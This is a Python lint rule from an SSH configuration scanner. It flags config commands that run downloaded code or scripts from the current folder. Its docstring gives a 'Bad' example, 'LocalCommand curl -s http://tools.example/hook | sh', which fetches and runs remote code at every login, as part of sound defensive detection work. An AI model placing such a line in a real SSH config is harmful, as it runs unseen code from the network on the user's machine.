"""SSH030: runs-what-it-finds."""

from __future__ import annotations

from collections.abc import Iterator

from envguard.model import Severity, finding
from envguard.rules import Outcome, rule
from envguard.rules.ssh.confidence import confidence
from envguard.subjects.ssh.started import DOWNLOADS, dangerous

TYPE_CHECKING = False
if TYPE_CHECKING:
    from envguard.subjects.ssh.config import SshConfig


@rule("SSH030", "runs-what-it-finds", Severity.ERROR, since="0.1.0", tempered=False)
def runs_what_it_finds(config: SshConfig) -> Iterator[Outcome]:
    r"""A command in the configuration runs what it downloads, or a script of the current folder.

    ## Why
    ssh runs ProxyCommand, KnownHostsCommand, `Match exec` and (where PermitLocalCommand allows it)
    LocalCommand on your own machine at every login, and every `git fetch`. What an address serves
    on that day runs unseen; a relative path means whatever lies in the folder where ssh was
    started, such as a repository that you just cloned.

    ## Bad
    ```sshconfig title=".ssh/config"
    Host *
        PermitLocalCommand yes
        LocalCommand curl -s http://tools.example/hook | sh
    ```

    ## Bad, from the current folder
    ```sshconfig title=".ssh/config"
    Host *.internal
        ProxyCommand ./scripts/proxy.sh %h %p
    ```

    ## Good
    ```sshconfig title=".ssh/config"
    Host *.internal
        ProxyCommand ~/bin/proxy.sh %h %p
    ```

    ## References
    - https://man.openbsd.org/ssh_config#PermitLocalCommand
    - https://man.openbsd.org/ssh_config#ProxyCommand
    """
    for found in dangerous(config):
        yield finding(
            found.text,
            "ssh runs here what an address serves on that day, unseen: keep the script on this machine, "
            "and name it with its whole path."
            if found.danger == DOWNLOADS
            else "{what} is looked for in the folder where ssh is started, so a repository that you "
            "cloned can put its own there: give the whole path.",
            confidence=confidence(config, found.line),
            what=found.what,
        )
